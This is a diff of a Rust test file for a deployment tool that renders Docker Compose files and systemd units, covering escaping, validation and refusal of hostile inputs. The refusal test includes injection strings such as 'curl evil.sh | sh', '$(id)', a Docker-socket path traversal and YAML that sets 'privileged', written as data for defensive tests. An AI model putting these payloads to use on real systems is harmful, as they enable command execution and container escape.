@@ -5,7 +5,7 @@ use std::path::Path;
 use std::process::Command;
 
 use anyhow::{Context, Result, ensure};
-use nova::render::{self, ComposeApp, Service, Site, SiteTls};
+use nova::render::{self, ComposeApp, ComposeHealth, ComposeService, Service, Site, SiteTls};
 
 fn site(name: &str, domains: &[&str], tls: Option<SiteTls>, include_dir: &Path) -> Site {
     Site {
@@ -35,16 +35,21 @@ fn service(exec: &[&str]) -> Service {
 
 fn app() -> ComposeApp {
     ComposeApp {
-        name: "shop".into(),
-        image: "ghcr.io/acme/shop:1.4.2".into(),
+        image: "registry.example.com:5000/acme/shop:1.4.2".into(),
         port: 8080,
         host_port: 5001,
-        env_file: "/etc/nova/shop.env".into(),
+        entrypoint: vec!["/app".into()],
+        command: vec!["--name".into(), "a \"b\" $HOME ${X} \\ é".into()],
+        environment: vec![("GREETING".into(), "100% $HOME: #1 'x'".into())],
+        env_file: Some("/etc/nova/shop.env".into()),
         volumes: vec![("/srv/shop/data".into(), "/data".into())],
-        health_path: "/healthz".into(),
-        health_interval_seconds: 5,
-        health_timeout_seconds: 2,
-        health_retries: 3,
+        memory_limit: Some("512m".into()),
+        health: Some(ComposeHealth {
+            path: "/healthz".into(),
+            interval_seconds: 5,
+            timeout_seconds: 2,
+            retries: 3,
+        }),
     }
 }
 
@@ -121,7 +126,19 @@ fn systemd_verifies_rendered_units() -> Result<()> {
     std::fs::write(&path, unit)?;
     let timer = dir.path().join("nova-shop.timer");
     std::fs::write(&timer, render::systemd_timer("Nightly backup of shop", "*-*-* 03:00:00", 600)?)?;
-    let out = Command::new("systemd-analyze").arg("verify").arg(&path).arg(&timer).output()?;
+    // verify wants the program to exist; any executable stands in for the compose wrapper.
+    let compose = dir.path().join("nova-shop-compose.service");
+    std::fs::write(
+        &compose,
+        render::systemd_compose_service(&ComposeService {
+            description: "Shop (green, compose)".into(),
+            project: "nova-shop-green".into(),
+            file: "/etc/nova/apps/shop/green.compose.yaml".into(),
+            compose: "/usr/bin/env".into(),
+            working_directory: "/etc/nova/apps/shop".into(),
+        })?,
+    )?;
+    let out = Command::new("systemd-analyze").arg("verify").arg(&path).arg(&timer).arg(&compose).output()?;
     let err = String::from_utf8_lossy(&out.stderr);
     ensure!(out.status.success(), "systemd-analyze verify:\n{err}");
     assert!(!err.contains("nova-shop"), "no complaint about our units: {err}");
@@ -162,7 +179,13 @@ fn compose_file_follows_the_compose_specification() -> Result<()> {
     let doc: serde_json::Value = serde_yaml::from_str(&rendered)?;
     let errors: Vec<String> = validator.iter_errors(&doc).map(|e| e.to_string()).collect();
     assert!(errors.is_empty(), "{errors:?}\n{rendered}");
-    assert_eq!(doc["services"]["app"]["ports"][0], "127.0.0.1:5001:8080");
+    let svc = &doc["services"]["app"];
+    assert_eq!(svc["ports"][0], "127.0.0.1:5001:8080");
+    // What compose reads after its own `$$` → `$` step is exactly what was given.
+    let unescaped = |v: &serde_json::Value| v.as_str().unwrap_or_default().replace("$$", "$");
+    assert_eq!(unescaped(&svc["command"][1]), "a \"b\" $HOME ${X} \\ é");
+    assert_eq!(unescaped(&svc["environment"]["GREETING"]), "100% $HOME: #1 'x'");
+    assert_eq!(svc["mem_limit"], "512m");
 
     // The same validator refuses a file that breaks the specification.
     let bad: serde_json::Value =
@@ -250,10 +273,22 @@ fn hostile_inputs_are_refused_with_the_field_named() {
         ("image with shell", compose(&|a| a.image = "shop:$(id)".into()), "image"),
         (
             "health path with shell",
-            compose(&|a| a.health_path = "/h; curl evil.sh | sh".into()),
+            compose(&|a| {
+                if let Some(h) = a.health.as_mut() {
+                    h.path = "/h; curl evil.sh | sh".into()
+                }
+            }),
             "health.path",
         ),
-        ("health path with quote", compose(&|a| a.health_path = "/h\" || true #".into()), "health.path"),
+        (
+            "health path with quote",
+            compose(&|a| {
+                if let Some(h) = a.health.as_mut() {
+                    h.path = "/h\" || true #".into()
+                }
+            }),
+            "health.path",
+        ),
         (
             "volume to the docker socket via traversal",
             compose(&|a| a.volumes = vec![("/srv/../var/run/docker.sock".into(), "/s".into())]),
@@ -264,7 +299,33 @@ fn hostile_inputs_are_refused_with_the_field_named() {
             compose(&|a| a.volumes = vec![("/data".into(), "/d:rw,z".into())]),
             "volumes[0].container",
         ),
-        ("compose name with space", compose(&|a| a.name = "my app".into()), "name"),
+        (
+            "compose environment key that is YAML",
+            compose(&|a| a.environment = vec![("A: x\n      privileged".into(), "1".into())]),
+            "environment[0].name",
+        ),
+        (
+            "compose environment value with a line break",
+            compose(&|a| a.environment = vec![("A".into(), "1\nB: 2".into())]),
+            "environment[0].value",
+        ),
+        (
+            "compose memory limit with YAML",
+            compose(&|a| a.memory_limit = Some("1g\n    privileged: true".into())),
+            "memoryLimit",
+        ),
+        (
+            "compose project with a space",
+            render::systemd_compose_service(&ComposeService {
+                description: "d".into(),
+                project: "my app".into(),
+                file: "/f".into(),
+                compose: "/c".into(),
+                working_directory: "/w".into(),
+            })
+            .err(),
+            "project",
+        ),
         ("env key with =", render::environment_file(&[("A=B".into(), "x".into())]).err(), "env[0].name"),
         (
             "env value with newline",
